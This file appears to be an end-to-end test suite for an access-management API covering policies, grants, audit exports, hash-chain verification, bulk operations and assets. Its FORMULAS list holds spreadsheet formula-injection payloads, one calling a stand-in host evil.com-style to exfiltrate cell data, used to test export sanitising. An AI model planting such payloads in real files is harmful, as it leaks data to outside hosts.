// The admin and auditor API end to end on a real Temporal (time-skipping) and database: policies
// (validation, versions, audit), the birthright simulation, hand-granted access, the audit trail and its
// exports, who-had-what-when, assets (with the leaver signal), and a bulk operation of a few people.
import { Client } from 'pg';
import request from 'supertest';
import { DEFAULT_POLICY } from '../../domain/default-policy';
import type { PolicyDocument } from '../../domain/policy-document';
import { CSV_COLUMNS, FORMULA_START, restoreFormula } from '../../api/routes/audit-export';
import { canonicalJson, contentOf, verifyEvents, type AuditEvent } from '../../db';
import { TEST_AUDIT_KEYS } from '../support/audit-keys';
import { finished, hire } from '../support/workflow-helpers';
import { as, bearer, eventually, startApi, TOKEN, type ApiHarness } from './harness';

let h: ApiHarness;
let hiredAt: number;
const admin = () => as(h.app, 'admin');
const auditor = () => as(h.app, 'auditor');
const clone = (): PolicyDocument => JSON.parse(JSON.stringify(DEFAULT_POLICY)) as PolicyDocument;
const caseResult = (caseId: string) => finished(h.env.client.workflow.getHandle(caseId));

beforeAll(async () => {
  h = await startApi();
  hiredAt = Date.now();
  await hire(h.stack, 'E1');
  await hire(h.stack, 'E2', { department: 'Sales' });
  await hire(h.stack, 'E3', { department: 'Sales' });
});
afterAll(async () => {
  await h?.stop();
});

/** A small RFC 4180 parser, to check the export the way a spreadsheet would read it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i += 1; } else if (c === '"') quoted = false; else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(field); field = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i += 1; } else field += c;
  }
  if (field !== '' || row.length) { row.push(field); rows.push(row); }
  return rows;
}

describe('policies', () => {
  test('the simulation reports who gains and loses, and changes nothing', async () => {
    const proposed = clone();
    proposed.birthright = proposed.birthright.map((r) => (r.id === 'engineering' ? { ...r, grant: ['eng-m365', 'eng-google'] } : r));
    proposed.birthright.push({ id: 'sales-github', when: { department: ['Sales'] }, grant: ['github'] });
    const versionsBefore = (await admin().get('/v1/policies/versions')).body.items;
    const res = await admin().post('/v1/policies/birthright/simulate', proposed);
    expect(res.status).toBe(200);
    const byId = Object.fromEntries((res.body.people as { employeeId: string }[]).map((p) => [p.employeeId, p]));
    expect(byId.E1).toMatchObject({ gain: [], lose: ['github'], lostFrom: { github: ['engineering'] } });
    expect(byId.E2).toMatchObject({ gain: ['github'], lose: [], gainedBy: { github: ['sales-github'] } });
    expect(res.body.summary).toEqual({ people: 3, changed: 3, gaining: 2, losing: 1 });
    expect((await admin().get('/v1/policies/versions')).body.items).toEqual(versionsBefore);
    expect((await h.stack.store.listEntitlements('E1')).map((e) => e.entitlementId)).toContain('github');
    // An invalid proposal is refused like a PUT.
    expect((await admin().post('/v1/policies/birthright/simulate', { entitlements: 'no' })).status).toBe(422);
  });

  test('PUT refuses an invalid policy listing every problem, and saves nothing', async () => {
    const before = await admin().get('/v1/policies');
    const bad = clone() as unknown as Record<string, unknown> & PolicyDocument;
    bad.birthright[0]!.grant.push('no-such-entitlement');
    bad.durations.moverGrace = 'seven days';
    bad.sod[0]!.entitlements = ['pay-create', 'ghost'];
    const res = await admin().put('/v1/policies', bad);
    expect(res.status).toBe(422);
    expect(res.headers['content-type']).toMatch(/problem\+json/);
    const fields = (res.body.errors as { field: string }[]).map((e) => e.field);
    expect(fields).toEqual(expect.arrayContaining(['birthright[0].grant[2]', 'durations.moverGrace', 'sod[0].entitlements[1]']));
    expect((await admin().put('/v1/policies', { ...clone(), extra: true })).status).toBe(422);
    expect((await admin().put('/v1/policies', [1, 2])).status).toBe(400);
    expect((await admin().get('/v1/policies')).headers.etag).toBe(before.headers.etag);
  });

  test('PUT and the simulation refuse an entitlement on a system without a connector, naming both; nothing is saved', async () => {
    const before = await admin().get('/v1/policies');
    const versionsBefore = (await admin().get('/v1/policies/versions')).body.items;
    const bad = clone();
    bad.entitlements.push({ id: 'nosuch-eng', system: 'scim:nosuch', kind: 'group', ref: 'engineering' });
    bad.birthright[1]!.grant.push('nosuch-eng');
    const expected = {
      field: `entitlements[${bad.entitlements.length - 1}].system`,
      message: "entitlement 'nosuch-eng' names system 'scim:nosuch', which has no connector; configured: m365, google, scim:github",
    };
    for (const res of [await admin().put('/v1/policies', bad), await admin().post('/v1/policies/birthright/simulate', bad)]) {
      expect(res.status).toBe(422);
      expect(res.headers['content-type']).toMatch(/problem\+json/);
      expect(res.body.errors).toEqual([expected]);
    }
    expect((await admin().get('/v1/policies')).headers.etag).toBe(before.headers.etag);
    expect((await admin().get('/v1/policies/versions')).body.items).toEqual(versionsBefore);
    expect((await h.stack.store.listAudit({ limit: 500 })).items.filter((e) => e.type === 'policy.changed')).toEqual([]);
  });

  test('PUT saves a new version with who and the difference, audited; If-Match guards against a stale edit', async () => {
    const current = await admin().get('/v1/policies');
    expect(current.status).toBe(200);
    expect(current.body).toEqual(DEFAULT_POLICY);
    const etag = current.headers.etag as string;
    const next = clone();
    next.entitlements.push({ id: 'sales-extra', system: 'm365', kind: 'group', ref: 'Sales Extra' });
    next.durations.moverGrace = 'P14D';
    const res = await admin().put('/v1/policies', next).set('If-Match', etag);
    expect(res.status).toBe(200);
    const version = Number(etag.replace(/"/g, '')) + 1;
    expect(res.body).toMatchObject({
      version, createdBy: 'admin-bob', previousVersion: version - 1,
      diff: { entitlements: { added: ['sales-extra'], removed: [], changed: [] }, durations: { before: DEFAULT_POLICY.durations, after: next.durations } },
    });
    expect((await admin().get('/v1/policies')).body).toEqual(next);
    const stale = await as(h.app, 'admin2').put('/v1/policies', clone()).set('If-Match', etag);
    expect(stale.status).toBe(412);
    const versions = (await admin().get('/v1/policies/versions')).body.items as { version: number; createdBy: string }[];
    expect(versions[0]).toMatchObject({ version, createdBy: 'admin-bob' });
    expect((await admin().get(`/v1/policies/versions/${version}`)).body.document).toEqual(next);
    expect((await admin().get('/v1/policies/versions/999')).status).toBe(404);
    const audit = (await h.stack.store.listAudit({ limit: 500 })).items.filter((e) => e.type === 'policy.changed');
    expect(audit).toEqual([expect.objectContaining({ actor: 'admin-bob', policyVersion: version, details: { diff: res.body.diff } })]);
    // Put the default back for the tests below.
    expect((await admin().put('/v1/policies', clone())).status).toBe(200);
  });
});

describe('hand-granted access', () => {
  test('grant, refusals, revoke', async () => {
    expect((await admin().post('/v1/people/NOPE/entitlements', { entitlementId: 'pay-create', reason: 'r' })).status).toBe(404);
    const unknown = await admin().post('/v1/people/E1/entitlements', { entitlementId: 'ghost', reason: 'r' });
    expect(unknown.status).toBe(422);
    expect(unknown.body.errors).toEqual([expect.objectContaining({ field: 'entitlementId' })]);
    expect((await admin().post('/v1/people/E1/entitlements', { entitlementId: 'pay-create', reason: 'r', expiresAt: 'tomorrow' })).status).toBe(400);
    expect((await admin().post('/v1/people/E1/entitlements', { entitlementId: 'pay-create' })).status).toBe(400);
    expect((await admin().delete('/v1/people/E1/entitlements/eng-m365')).status).toBe(409);
    expect((await admin().delete('/v1/people/E1/entitlements/pay-create')).status).toBe(404);

    const granted = await admin().post('/v1/people/E1/entitlements', { entitlementId: 'pay-create', reason: 'month-end close' }).set('Idempotency-Key', 'k1');
    expect(granted.status).toBe(202);
    expect(granted.body).toEqual({ caseId: expect.stringMatching(/^case-E1:grant-/), workflowId: granted.body.caseId });
    const again = await admin().post('/v1/people/E1/entitlements', { entitlementId: 'pay-create', reason: 'month-end close' }).set('Idempotency-Key', 'k1');
    expect(again.status).toBe(200);
    expect(again.body.caseId).toBe(granted.body.caseId);
    expect((await caseResult(granted.body.caseId)).status).toBe('completed');
    const held = (await h.stack.store.listEntitlements('E1')).find((e) => e.entitlementId === 'pay-create');
    expect(held).toMatchObject({ source: 'manual', status: 'active', reason: 'month-end close', grantedByCase: granted.body.caseId });
    expect((await h.stack.store.getCase(granted.body.caseId))).toMatchObject({ type: 'access', requestedBy: 'admin-bob' });

    const revoked = await admin().delete('/v1/people/E1/entitlements/pay-create');
    expect(revoked.status).toBe(202);
    expect((await caseResult(revoked.body.caseId)).status).toBe('completed');
    expect((await h.stack.store.listEntitlements('E1', { includeRemoved: false })).map((e) => e.entitlementId)).not.toContain('pay-create');
  });
});

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+SUM(1,2)', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "'=already"];

describe('audit trail', () => {
  beforeAll(async () => {
    await h.stack.store.appendAudit({
      idempotencyKey: 'test:tricky', employeeId: 'E2', type: 'test.note', outcome: 'succeeded', actor: 'someone, "quoted"',
      details: { note: 'line one\nline two, with "quotes"' },
    });
    // What a hostile value looks like to a spreadsheet: each would run as a formula if the cell began with it.
    await h.stack.store.appendAuditBatch(FORMULAS.map((actor, i) => ({
      idempotencyKey: `test:formula-${i}`, employeeId: 'E2', type: 'test.formula', outcome: 'succeeded' as const, actor, approver: actor,
    })));
  });

  test("a person's trail pages with a cursor, oldest first", async () => {
    const first = await auditor().get('/v1/people/E1/audit?limit=3');
    expect(first.status).toBe(200);
    expect(first.body.items).toHaveLength(3);
    const second = await auditor().get(`/v1/people/E1/audit?limit=3&cursor=${first.body.nextCursor}`);
    expect(second.body.items[0].seq).toBeGreaterThan(first.body.items[2].seq);
    expect([...first.body.items, ...second.body.items].every((e: { employeeId: string }) => e.employeeId === 'E1')).toBe(true);
    const types = (await h.stack.store.listAudit({ employeeId: 'E1', limit: 500 })).items.map((e) => e.type);
    expect(types).toEqual(expect.arrayContaining(['entitlement.granted', 'entitlement.revoked']));
    expect((await auditor().get('/v1/people/NOPE/audit')).status).toBe(404);
    expect((await auditor().get('/v1/people/E1/audit?cursor=bm9wZQ')).status).toBe(400);
  });

  test('CSV export: a header, one row per event, RFC 4180 quoting', async () => {
    const res = await auditor().get('/v1/audit/export?format=csv').buffer(true).parse((r, cb) => {
      let s = '';
      r.on('data', (c: Buffer) => { s += c.toString('utf8'); });
      r.on('end', () => cb(null, s));
    });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const rows = parseCsv(res.body as string);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const all = (await h.stack.store.listAudit({ limit: 500 })).items;
    expect(rows).toHaveLength(all.length + 1);
    expect(rows.slice(1).every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
    const col = (name: string) => CSV_COLUMNS.indexOf(name as never);
    const tricky = rows.find((r) => r[col('type')] === 'test.note')!;
    expect(tricky[col('actor')]).toBe('someone, "quoted"');
    expect(JSON.parse(tricky[col('details')]!)).toEqual({ note: 'line one\nline two, with "quotes"' });
    expect(rows.slice(1).map((r) => Number(r[col('seq')]))).toEqual(all.map((e) => e.seq));
    expect(rows.slice(1).map((r) => r[col('keyId')])).toEqual(all.map((e) => e.keyId));
    expect(new Set(all.map((e) => e.keyId))).toEqual(new Set([TEST_AUDIT_KEYS.signingKeyId]));
  });

  test('CSV export: no cell starts a formula, and each restores to the stored value', async () => {
    const text = (await auditor().get('/v1/audit/export?format=csv').buffer(true).parse((r, cb) => {
      let s = '';
      r.on('data', (c: Buffer) => { s += c.toString('utf8'); });
      r.on('end', () => cb(null, s));
    })).body as string;
    const rows = parseCsv(text).slice(1);
    for (const cell of rows.flat()) expect(FORMULA_START.test(cell)).toBe(false);
    const col = (name: string) => CSV_COLUMNS.indexOf(name as never);
    const formulaRows = rows.filter((r) => r[col('type')] === 'test.formula');
    expect(formulaRows.map((r) => r[col('actor')]!.startsWith("'"))).toEqual(FORMULAS.map(() => true));
    expect(formulaRows.map((r) => restoreFormula(r[col('actor')]!))).toEqual(FORMULAS);
    expect(formulaRows.map((r) => restoreFormula(r[col('approver')]!))).toEqual(FORMULAS);
  });

  test('JSONL export: each line is the canonical form that was hashed, and the lines verify as a chain', async () => {
    const stored = (await h.stack.store.listAudit({ limit: 500 })).items;
    const text = (await auditor().get('/v1/audit/export?format=jsonl')).text;
    const lines = text.trimEnd().split('\n');
    expect(lines).toEqual(stored.map((e) => canonicalJson(e)));
    const parsed = lines.map((l) => JSON.parse(l) as AuditEvent);
    for (const [i, e] of parsed.entries()) {
      expect(TEST_AUDIT_KEYS.mac(e.keyId!, canonicalJson(contentOf(e)))).toBe(stored[i]!.hash);
    }
    expect(verifyEvents(parsed, TEST_AUDIT_KEYS)).toEqual({ ok: true, count: stored.length, legacy: 0 });
  });

  test('JSONL export: one event per line, filtered by time', async () => {
    const all = (await h.stack.store.listAudit({ limit: 500 })).items;
    const res = await auditor().get('/v1/audit/export?format=jsonl');
    expect(res.headers['content-type']).toMatch(/^application\/x-ndjson/);
    const lines = (res.text as string).trimEnd().split('\n').map((l) => JSON.parse(l) as { seq: number; hash: string });
    expect(lines.map((l) => l.seq)).toEqual(all.map((e) => e.seq));
    expect(lines[0]).toEqual(all[0]);
    const mid = all[Math.floor(all.length / 2)]!.at;
    const later = (await auditor().get(`/v1/audit/export?format=jsonl&from=${encodeURIComponent(mid)}`)).text.trimEnd().split('\n');
    expect(later.length).toBe(all.filter((e) => e.at >= mid).length);
    const none = await auditor().get('/v1/audit/export?format=jsonl&to=2000-01-01T00:00:00Z');
    expect(none.text).toBe('');
  });

  test('the chain verifies, and names the first event edited behind the app', async () => {
    const all = (await h.stack.store.listAudit({ limit: 500 })).items;
    expect((await auditor().get('/v1/audit/verify')).body).toEqual({ ok: true, count: all.length, legacy: 0 });
    const victim = all[2]!;
    const owner = new Client({ connectionString: h.stack.ownerUrl });
    await owner.connect();
    const asOwner = async (sql: string, params: unknown[]) => {
      await owner.query('BEGIN');
      await owner.query('ALTER TABLE audit_events DISABLE TRIGGER audit_events_append_only');
      await owner.query(sql, params);
      await owner.query('ALTER TABLE audit_events ENABLE TRIGGER audit_events_append_only');
      await owner.query('COMMIT');
    };
    try {
      await asOwner(`UPDATE audit_events SET actor = 'someone else' WHERE seq = $1`, [victim.seq]);
      expect((await auditor().get('/v1/audit/verify')).body).toEqual({
        ok: false, code: 'hash_mismatch', seq: victim.seq, brokenAt: victim.seq, id: victim.id, keyId: victim.keyId, reason: expect.stringMatching(/altered/),
      });
    } finally {
      await asOwner('UPDATE audit_events SET actor = $2 WHERE seq = $1', [victim.seq, victim.actor]);
      await owner.end();
    }
    expect((await auditor().get('/v1/audit/verify')).body).toMatchObject({ ok: true });
  });

  test('who had what when', async () => {
    const now = await auditor().get(`/v1/access?at=${encodeURIComponent(new Date().toISOString())}&employeeId=E1`);
    expect(now.status).toBe(200);
    expect((now.body.entitlements as { entitlementId: string }[]).map((e) => e.entitlementId)).toEqual(expect.arrayContaining(['github', 'eng-m365']));
    expect(now.body.accounts.length).toBe(3);
    const before = await auditor().get(`/v1/access?at=${encodeURIComponent(new Date(hiredAt - 60_000).toISOString())}`);
    expect(before.body).toMatchObject({ entitlements: [], accounts: [] });
  });

  test('access snapshots are listed per person', async () => {
    expect((await auditor().get('/v1/people/E1/access-snapshots')).body).toEqual({ items: [] });
    expect((await auditor().get('/v1/people/NOPE/access-snapshots')).status).toBe(404);
  });
});

describe('bulk and assets', () => {
  test('a bulk suspend of a few people: one case each, progress with case status', async () => {
    const res = await admin().post('/v1/bulk', { operation: 'suspend', employeeIds: ['E1', 'E2', 'NOPE'], reason: 'security incident', immediate: true });
    expect(res.status).toBe(202);
    const { bulkId } = res.body as { bulkId: string };
    const started = await eventually(() => admin().get(`/v1/bulk/${bulkId}`), (r) => r.body.counts.pending === 0);
    expect(started.body.counts).toMatchObject({ total: 3, skipped: 1 });
    expect(started.body.items).toEqual(expect.arrayContaining([expect.objectContaining({ employeeId: 'NOPE', status: 'skipped', error: 'unknown employee' })]));
    for (const id of ['E1', 'E2']) {
      const cases = (await h.stack.store.listCases({ employeeId: id, type: 'suspend' })).items;
      expect(cases).toEqual([expect.objectContaining({ eventId: `bulk-${bulkId}-${id}`, requestedBy: 'admin-bob' })]);
      expect((await caseResult(cases[0]!.caseId)).status).toBe('completed');
    }
    const done = await eventually(() => admin().get(`/v1/bulk/${bulkId}`), (r) => r.body.status !== 'running');
    expect(done.body).toMatchObject({ operation: 'suspend', status: 'completed', counts: { total: 3, completed: 2, skipped: 1, started: 0 } });
    expect(done.body.items.find((i: { employeeId: string }) => i.employeeId === 'E2')).toMatchObject({ caseStatus: 'completed', caseId: expect.any(String) });
    expect((await h.stack.store.getPerson('E2'))?.state).toBe('suspended');
    expect((await admin().post('/v1/bulk', { operation: 'leaver', employeeIds: ['E1', 'E1'], reason: 'x', immediate: true })).status).toBe(400);
    expect((await admin().post('/v1/bulk', { operation: 'leaver', employeeIds: Array.from({ length: 501 }, (_, i) => `P${i}`), reason: 'x', immediate: true })).status).toBe(400);
    expect((await admin().get('/v1/bulk/00000000-0000-4000-8000-000000000000')).status).toBe(404);
  });

  test('assets: add, list, return, write off; a device change is signalled to the leaver case awaiting returns', async () => {
    expect((await admin().post('/v1/people/E3/assets', { kind: 'device', name: 'Laptop' })).status).toBe(400);
    expect((await admin().post('/v1/people/NOPE/assets', { kind: 'seat', name: 'Figma' })).status).toBe(404);
    const added = await admin().post('/v1/people/E3/assets', { kind: 'device', name: 'Laptop', model: 'MacBook Pro', serial: 'SN-1' });
    expect(added.status).toBe(201);
    expect(added.body).toMatchObject({ employeeId: 'E3', kind: 'device', status: 'assigned', serial: 'SN-1' });
    await admin().post('/v1/people/E3/assets', { kind: 'seat', name: 'Figma', monthlyCost: 15 });
    expect((await auditor().get('/v1/people/E3/assets?kind=device')).body.items).toHaveLength(1);
    expect((await auditor().get('/v1/people/E3/assets')).body.items).toHaveLength(2);
    expect((await auditor().get('/v1/people/E3/assets?kind=car')).status).toBe(400);
    expect((await auditor().post(`/v1/assets/${added.body.id}/return`, {})).status).toBe(403);

    // A leaver whose accounts are revoked waits for the device to come back.
    const leaver = await admin().post('/v1/bulk', { operation: 'leaver', employeeIds: ['E3'], reason: 'resigned', immediate: true });
    const item = (await eventually(() => admin().get(`/v1/bulk/${leaver.body.bulkId}`), (r) => r.body.counts.pending === 0)).body.items[0];
    expect(item).toMatchObject({ status: 'started', caseId: expect.any(String) });
    // Under a loaded suite the bulk can take a while to reach the device wait: wait for it, then assert it.
    const waiting = await eventually(() => auditor().get(`/v1/cases/${encodeURIComponent(item.caseId)}`), (r) => r.body.scheduled?.[0]?.action === 'device return reminder', 60_000);
    expect(waiting.body.scheduled?.[0]?.action).toBe('device return reminder');
    expect((await h.stack.store.getCase(item.caseId))?.status).not.toMatch(/completed|cancelled|superseded|failed/);

    const returned = await admin().post(`/v1/assets/${added.body.id}/return`, { comment: 'handed in at reception' });
    expect(returned.status).toBe(200);
    expect(returned.body).toMatchObject({ status: 'returned', returnedAt: expect.any(String) });
    const history = await h.env.client.workflow.getHandle(item.caseId).fetchHistory();
    const signals = (history.events ?? []).filter((e) => e.workflowExecutionSignaledEventAttributes?.signalName === 'devicesChanged');
    expect(signals.length).toBeGreaterThanOrEqual(1);

    expect((await admin().post(`/v1/assets/${added.body.id}/write-off`)).body.status).toBe('written_off');
    expect((await admin().post(`/v1/assets/${added.body.id}/return`)).status).toBe(409);
    expect((await admin().post('/v1/assets/no-such-asset/return')).status).toBe(404);
    const types = (await h.stack.store.listAudit({ employeeId: 'E3', limit: 500 })).items.map((e) => e.type);
    expect(types).toEqual(expect.arrayContaining(['asset.assigned', 'asset.returned', 'asset.written_off']));
  }, 180_000);
});

test('an HR token may not use the admin API', async () => {
  expect((await request(h.app).get('/v1/people').set('Authorization', bearer(TOKEN.hr))).status).toBe(403);
});

test('/metrics counts the cases the API started, by type', async () => {
  const text = (await request(h.app).get('/metrics')).text;
  expect(text).toMatch(/gatehouse_cases_started_total\{type="access"\} 2/);
  // Bulk items are started by the bulk workflow in the worker, not by the API process.
  expect(text).not.toMatch(/gatehouse_cases_started_total\{type="(suspend|leaver)"\}/);
});
